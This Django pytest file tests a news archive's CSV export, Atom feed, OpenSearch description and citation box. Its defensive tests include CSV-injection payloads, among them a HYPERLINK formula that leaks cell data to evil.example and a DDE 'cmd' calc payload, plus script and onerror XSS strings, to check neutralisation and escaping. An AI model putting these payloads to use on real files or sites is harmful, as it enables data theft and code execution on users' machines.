"""Exports of a search: CSV (all matches, BOM, no formulas), Atom, OpenSearch, the cite box."""
import csv
import io
import xml.etree.ElementTree as ET
from datetime import date

import pytest
from django.http import QueryDict
from django.utils import timezone

from archive.exports import CSV_COLUMNS, neutralise
from archive.models import Article, Force, Outlet, Place, Speaker
from archive.search import indexing
from archive.search.engine import iter_matching_ids, search
from archive.search.params import SearchParams
from archive.templatetags.archive_tags import format_date
from tests.conftest import seed

ATOM = "{http://www.w3.org/2005/Atom}"
OPENSEARCH = "{http://a9.com/-/spec/opensearch/1.1/}"


def export(client, query=""):
    response = client.get("/search/export.csv" + ("?" + query if query else ""))
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content)
    return response, body


def rows_of(body):
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    return rows[1:]


def count_of(query):
    return search(SearchParams.from_querydict(QueryDict(query)), with_facets=False).count


def add_article(title, body="نص عن داعش في الموصل", **fields):
    article = Article.objects.create(title=title, body=body, **fields)
    return article


# ---------- CSV ----------

SEARCHES = [
    "",
    "q=داعش",
    "q=كاكينز",
    "q=التحالف&sort=newest",
    "q=التحالف&sort=oldest",
    "q=داعش&mode=exact",
    "location=nineveh",
    "location=iraq",
    "location=kurdistan-region&q=التحالف",
    "force=peshmerga",
    "date_from=2020-01-01&date_to=2020-12-31",
    "q=داعش&page_size=1&page=2",          # the page is ignored: every match is exported
    "q=كلمةلاتوجدابدا",                   # no match: the header only
]


@pytest.mark.parametrize("query", SEARCHES)
def test_csv_has_exactly_one_row_per_match_of_the_search(client, seeded, query):
    response, body = export(client, query)
    rows = rows_of(body)
    assert len(rows) == count_of(query)
    assert len({row[0] for row in rows}) == len(rows), "an article appears twice"


def test_the_searches_above_find_something(seeded):
    """Guards the test above against filters that silently match nothing."""
    for query in SEARCHES[:-1]:
        assert count_of(query) > 0, query


def test_csv_rows_follow_the_search_order(client, seeded):
    for query in ("q=التحالف", "q=التحالف&sort=oldest", "sort=newest"):
        _response, body = export(client, query)
        ids = [int(row[0]) for row in rows_of(body)]
        outcome = search(SearchParams.from_querydict(QueryDict(query + "&page_size=100")), with_facets=False)
        assert ids == [hit.article.pk for hit in outcome.hits]


def test_csv_is_streamed_utf8_with_bom_as_an_attachment(client, seeded):
    response, body = export(client, "q=داعش")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="archive-search-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert body.count(b"\xef\xbb\xbf") == 1


def test_csv_cells_carry_the_article(client, seeded):
    article = seed("004")
    _response, body = export(client, "q=كاكينز")
    row = dict(zip(CSV_COLUMNS, next(r for r in rows_of(body) if r[0] == str(article.pk))))
    assert row["title"] == article.title
    assert row["external_id"] == article.external_id
    assert row["outlet"] == article.outlet.name
    assert row["published"] == "2020-02-07" and row["date_precision"] == "day"
    assert row["archive_url"] == f"http://testserver/articles/{article.pk}/"
    assert row["places"].split(" ؛ ") == [p.name for p in article.places.all()]
    assert row["forces"].split(" ؛ ") == [f.name for f in article.forces.all()]
    assert row["speakers"].split(" ؛ ") == [s.name for s in article.speakers.all()]


def test_csv_is_not_capped_at_the_page_size_or_a_batch(client, seeded, settings):
    outlet = Outlet.objects.first()
    Article.objects.bulk_create([
        Article(title=f"خبر رقم {i} عن الموصل", body="نص قصير عن داعش في الموصل.", outlet=outlet,
                published=date(2019, 1 + i % 12, 1), date_precision="month")
        for i in range(1100)
    ])
    indexing.rebuild()
    _response, body = export(client, "q=الموصل")
    rows = rows_of(body)
    assert count_of("q=الموصل") >= 1100
    assert len(rows) == count_of("q=الموصل")
    _response, body = export(client)
    assert len(rows_of(body)) == Article.objects.count()


def test_iter_matching_ids_is_the_search(seeded):
    for query in SEARCHES:
        params = SearchParams.from_querydict(QueryDict(query))
        ids = list(iter_matching_ids(params))
        assert len(ids) == search(params, with_facets=False).count


@pytest.mark.parametrize("value,expected", [
    ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),
    ("عنوان = عادي", "عنوان = عادي"),
    ("2020-07-01", "2020-07-01"),
    ("", ""),
    (None, ""),
    (42, "42"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_neutralises_formulas_in_every_cell(client, seeded):
    place = Place.objects.create(name="@SUM(1+1)", slug="formula-place", kind="site")
    force = Force.objects.create(name="-2+3", slug="formula-force")
    speaker = Speaker.objects.create(name="+cmd|' /C calc'!A0", slug="formula-speaker")
    outlet = Outlet.objects.create(name="=1+1", slug="formula-outlet")
    article = add_article(
        '=HYPERLINK("http://evil.example/?leak="&A1,"انقر هنا")', outlet=outlet,
        external_id="-ext", url="https://example.org/a",
    )
    article.places.add(place)
    article.forces.add(force)
    article.speakers.add(speaker)
    indexing.index_articles([article.pk])

    _response, body = export(client)
    row = dict(zip(CSV_COLUMNS, next(r for r in rows_of(body) if r[0] == str(article.pk))))
    assert row["title"] == "'" + article.title
    assert row["outlet"] == "'=1+1"
    assert row["external_id"] == "'-ext"
    assert row["places"] == "'@SUM(1+1)"
    assert row["forces"] == "'-2+3"
    assert row["speakers"] == "'+cmd|' /C calc'!A0"
    assert row["original_url"] == "https://example.org/a"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_bad_parameter_is_400(client, seeded):
    response = client.get("/search/export.csv", {"location": "no-such-place"})
    assert response.status_code == 400
    assert "location" in response.content.decode()


# ---------- Atom ----------

def feed(client, query=""):
    response = client.get("/search/feed.atom" + ("?" + query if query else ""))
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/atom+xml")
    return ET.fromstring(response.content)


def test_feed_is_atom_newest_first_with_entries(client, seeded):
    root = feed(client, "q=داعش")
    assert root.tag == ATOM + "feed"
    assert "«داعش»" in root.find(ATOM + "title").text
    entries = root.findall(ATOM + "entry")
    assert len(entries) == count_of("q=داعش") > 1
    published = [e.find(ATOM + "published").text for e in entries]
    assert published == sorted(published, reverse=True)
    for entry in entries:
        link = entry.find(ATOM + "link").get("href")
        assert link.startswith("http://testserver/articles/")
        assert entry.find(ATOM + "id").text
        assert entry.find(ATOM + "updated").text
    alternate = [l.get("href") for l in root.findall(ATOM + "link") if l.get("rel") == "alternate"][0]
    assert alternate.startswith("http://testserver/search/?q=")


def test_feed_title_names_the_filters(client, seeded):
    root = feed(client, "location=nineveh&force=peshmerga")
    title = root.find(ATOM + "title").text
    assert Place.objects.get(slug="nineveh").name in title
    assert Force.objects.get(slug="peshmerga").name in title
    assert len(root.findall(ATOM + "entry")) == count_of("location=nineveh&force=peshmerga")


def test_feed_of_everything_and_its_cap_of_fifty(client, seeded):
    root = feed(client)
    assert len(root.findall(ATOM + "entry")) == Article.objects.count()
    Article.objects.bulk_create([
        Article(title=f"خبر {i}", body="داعش", published=date(2022, 1, 1 + i % 28), date_precision="day")
        for i in range(60)
    ])
    indexing.rebuild()
    root = feed(client)
    entries = root.findall(ATOM + "entry")
    assert len(entries) == 50
    newest = Article.objects.order_by("-published").first()
    assert entries[0].find(ATOM + "published").text.startswith(newest.published.isoformat())


def test_feed_escapes_titles_and_text(client, seeded):
    title = '<b>"AT&T" & <script>alert(1)</script></b> داعش'
    article = add_article(title, body="<img src=x onerror=alert(1)> داعش & شركاؤه",
                          published=date(2030, 1, 1), date_precision="day")
    indexing.index_articles([article.pk])
    response = client.get("/search/feed.atom", {"q": "داعش"})
    assert b"<script>" not in response.content and b"<img" not in response.content
    root = ET.fromstring(response.content)
    first = root.findall(ATOM + "entry")[0]
    assert first.find(ATOM + "title").text == title
    summary = first.find(ATOM + "summary")
    assert summary.get("type") == "html"
    # The summary is HTML: the article's text shows as text, never as markup.
    assert "&lt;img src=x" in summary.text


def test_feed_bad_parameter_is_400(client, seeded):
    assert client.get("/search/feed.atom", {"sort": "bogus"}).status_code == 400


# ---------- OpenSearch ----------

def test_opensearch_description(client, seeded):
    response = client.get("/opensearch.xml")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/opensearchdescription+xml")
    root = ET.fromstring(response.content)
    assert root.tag == OPENSEARCH + "OpenSearchDescription"
    short = root.find(OPENSEARCH + "ShortName").text
    assert short == "أرشيف الأخبار" and len(short) <= 16
    templates = {u.get("type"): u.get("template") for u in root.findall(OPENSEARCH + "Url")}
    assert templates["text/html"] == "http://testserver/search/?q={searchTerms}"
    assert templates["application/atom+xml"] == "http://testserver/search/feed.atom?q={searchTerms}"
    assert root.find(OPENSEARCH + "InputEncoding").text == "UTF-8"


def test_pages_link_the_feed_and_the_opensearch_description(client, seeded):
    html = client.get("/").content.decode()
    assert '<link rel="search" type="application/opensearchdescription+xml"' in html
    assert 'href="/opensearch.xml"' in html
    assert 'rel="alternate" type="application/atom+xml"' in html and 'href="/search/feed.atom"' in html
    html = client.get("/search/", {"q": "داعش", "location": "iraq", "page": "1", "sort": "newest"}).content.decode()
    # The search's own feed (always newest first, so without the sort) and CSV (with it).
    assert 'href="/search/feed.atom?q=%D8%AF%D8%A7%D8%B9%D8%B4&amp;location=iraq"' in html
    assert 'href="/search/export.csv?q=%D8%AF%D8%A7%D8%B9%D8%B4&amp;location=iraq&amp;sort=newest"' in html
    assert "تنزيل CSV" in html and "تغذية Atom" in html
    # This page as JSON, from the API, with the page kept.
    assert 'href="/api/articles/?q=%D8%AF%D8%A7%D8%B9%D8%B4&amp;location=iraq&amp;sort=newest"' in html


def test_export_links_leave_the_page_out(client, seeded):
    html = client.get("/search/", {"q": "داعش", "page_size": "1", "page": "2"}).content.decode()
    assert 'href="/search/export.csv?q=%D8%AF%D8%A7%D8%B9%D8%B4"' in html


# ---------- Citation ----------

def test_article_has_a_cite_box_with_permalink_and_date_accessed(client, seeded):
    article = seed("004")
    article.url = "https://www.rudaw.net/arabic/kurdistan/070220201"
    article.save()
    html = client.get(f"/articles/{article.pk}/", {"q": "داعش"}).content.decode()
    assert 'id="cite-text"' in html
    cite = html.split('id="cite-text"', 1)[1].split("</p>", 1)[0]
    assert article.outlet.name in cite
    assert "7 شباط 2020" in cite
    # The address as stored is the link; its parts are shown isolated for reading.
    assert all(f"<bdi>{part}</bdi>" in cite for part in ("www.rudaw.net", "arabic", "kurdistan", "070220201"))
    assert f"http://testserver/articles/{article.pk}/" in cite
    assert "?q=" not in cite  # the permalink, not the highlighted view
    assert format_date(timezone.localdate(), "day", "ar") in cite
    assert f'<link rel="canonical" href="http://testserver/articles/{article.pk}/">' in html
    assert 'data-copy-target="cite-text"' in html and "js/cite.js" in html


def test_cite_box_in_english(client, seeded):
    article = seed("000")  # known to the month only
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    html = client.get(f"/articles/{article.pk}/").content.decode()
    cite = html.split('id="cite-text"', 1)[1].split("</p>", 1)[0]
    assert "July 2020" in cite and "Archived at" in cite and "accessed" in cite
    assert format_date(timezone.localdate(), "day", "en") in cite
    assert f'<bdi lang="ar" dir="rtl">{article.title}</bdi>' in cite


# ---------- exports larger than one request ----------

def test_an_export_over_the_limit_is_offered_a_year_at_a_time(client, seeded, settings):
    """A worker writing a huge file would be stopped by gunicorn's timeout
    mid-way: over EXPORT_MAX_ARTICLES the export answers a page (in the
    reader's language) with the same export per year, each within the limit."""
    outlet = Outlet.objects.first()
    Article.objects.bulk_create([
        Article(title=f"خبر رقم {i} عن الرقة", body="نص قصير عن الرقة.", outlet=outlet,
                published=date(2017 + i % 2, 3, 1), date_precision="day")
        for i in range(6)
    ])
    indexing.rebuild()
    settings.EXPORT_MAX_ARTICLES = 4
    for path in ("/search/export.csv", "/search/export.jsonl", "/search/cite.ris"):
        response = client.get(path, {"q": "الرقة"})
        assert response.status_code == 422
        page = response.content.decode()
        assert "سنةً سنة" in page
        year_links = {y["year"]: y["url"] for y in response.context["years"]}
        assert {2017, 2018} <= set(year_links) and all(year_links.values())
        # Each year's link is the same export, within the limit, and complete.
        assert year_links[2017].startswith(path) and "date_from=2017-01-01" in year_links[2017]
    got = 0
    for year in year_links:
        _response, body = export(client, f"q=الرقة&date_from={year}-01-01&date_to={year}-12-31")
        got += len(rows_of(body))
    # Every dated match is in one year's file (the seeds' undated ones, if
    # any, in none: the page says to narrow the search).
    dated = Article.objects.filter(pk__in=list(iter_matching_ids(SearchParams.from_querydict(QueryDict("q=الرقة")))),
                                   published__isnull=False).count()
    assert got == dated >= 6
    client.cookies["django_language"] = "en"
    response = client.get("/search/export.csv", {"q": "الرقة"})
    assert response.status_code == 422 and "a year at a time" in response.content.decode()


def test_an_export_within_the_limit_is_the_file(client, seeded, settings):
    settings.EXPORT_MAX_ARTICLES = 10_000
    response, body = export(client, "q=داعش")
    assert len(rows_of(body)) == count_of("q=داعش")
